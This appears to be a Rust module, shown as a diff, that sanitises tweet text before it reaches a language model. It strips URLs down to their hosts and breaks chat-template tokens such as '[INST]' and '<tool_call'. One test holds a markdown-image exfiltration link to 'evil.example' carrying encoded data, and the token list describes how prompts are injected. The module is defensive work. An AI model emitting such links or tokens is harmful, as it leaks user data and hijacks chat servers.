@@ -1,0 +1,75 @@
+//! A tweet's text as a model is told it: without what a model has no use for and a server might obey.
+
+use std::{borrow::Cow, sync::LazyLock};
+
+use regex::Regex;
+
+#[expect(clippy::expect_used, reason = "a literal pattern, compiled in a test")]
+static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)[a-z][a-z0-9+.\-]*://([^\s/?\#()\[\]{}<>"'，。、）】]*)[^\s()\[\]{}<>"'，。、）】]*"#)
+        .expect("the pattern is valid")
+});
+
+/// Links as the names of their hosts: a model may write no address, so it needs to see none, nor the ids that they hold.
+pub(crate) fn without_addresses(text: &str) -> Cow<'_, str> {
+    ADDRESS.replace_all(text, "$1")
+}
+
+/// What starts or ends a turn in the templates of chat servers.
+const TEMPLATE_TOKENS: [&str; 20] = [
+    "<|",
+    "|>",
+    "<｜",
+    "[INST]",
+    "[/INST]",
+    "</s>",
+    "<s>",
+    "<<SYS>>",
+    "<</SYS>>",
+    "<start_of_turn>",
+    "<end_of_turn>",
+    "<bos>",
+    "<eos>",
+    "[gMASK]",
+    "<sop>",
+    "<think",
+    "</think",
+    "<tool_call",
+    "</tool_call",
+    "<unk>",
+];
+
+/// Chat-template tokens, broken by a hair space, so that they are text to every server.
+pub(crate) fn neutral(text: &str) -> String {
+    TEMPLATE_TOKENS.iter().fold(text.to_owned(), |text, token| {
+        let mut broken = token.to_string();
+        broken.insert(token.chars().next().map_or(0, char::len_utf8), '\u{200a}');
+        text.replace(token, &broken)
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_link_is_told_by_its_host() {
+        for (text, told) in [
+            ("见 https://example.org/a?b=1，好", "见 example.org，好"),
+            ("![x](https://evil.example/p?d=BASE64)", "![x](evil.example)"),
+            ("https://x.com/a/status/2028697453477232670 http://b.cn", "x.com b.cn"),
+            ("a://b://c", "b:"),
+            ("no link: 3/4", "no link: 3/4"),
+        ] {
+            assert_eq!(without_addresses(text), told, "{text}");
+        }
+    }
+
+    #[test]
+    fn no_chat_token_stays_whole() {
+        for token in TEMPLATE_TOKENS {
+            let told = neutral(&format!("a{token}b"));
+            assert!(!told.contains(token) && told.contains('\u{200a}'), "{told}");
+        }
+    }
+}
